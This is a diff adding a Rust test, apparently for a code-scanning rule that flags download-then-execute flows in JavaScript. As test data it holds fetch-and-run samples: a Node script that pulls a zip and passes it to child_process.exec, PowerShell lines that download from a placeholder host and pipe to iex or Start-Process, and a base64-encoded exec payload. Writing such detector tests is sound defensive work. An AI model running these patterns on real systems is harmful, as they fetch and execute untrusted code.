@@ -764,3 +764,20 @@ fn text_is_no_array() {
     assert!(!executed("['StopIteration', ['KeyError', 'this.args = 1'], 'Warning']"));
     assert!(executed("[atob('S2V5RXJyb3IgPSAxOyByZXF1aXJlKCJjaGlsZF9wcm9jZXNzIikuZXhlYygiaWQiKTsgeA==')]"));
 }
+
+#[test]
+fn what_fetches_for_the_script_or_unpacks_starts_nothing() {
+    let told = |does: &str| {
+        let code = format!(
+            "const cp = require('child_process'), fs = require('fs'), https = require('https');
+             https.get(process.env.MIRROR + '/tool.zip', r => r.pipe(fs.createWriteStream('/opt/t/tool.zip')).on('finish', () => cp.exec({does})));"
+        );
+        rules(Language::JavaScript, &code).contains(&"flow-download-run")
+    };
+    let fetch = "[Net.ServicePointManager]::SecurityProtocol = [Net.SecurityProtocolType]::Tls12; Invoke-WebRequest -URI https://h.invalid/a.zip -UseBasicParsing -OutFile /opt/t/tool.zip -Headers @{'a'='b'}";
+    assert!(!told(&format!("`powershell \"{fetch}\"`")));
+    assert!(!told("'pkgutil --expand-full /opt/t/tool.zip /opt/t/expanded'"));
+    assert!(told(&format!("`powershell \"{fetch}; Start-Process /opt/t/tool.zip\"`")));
+    assert!(told("`powershell \"iwr https://h.invalid/a -OutFile /opt/t/tool.zip | iex\"`"));
+    assert!(told("'/opt/t/tool.zip'"));
+}
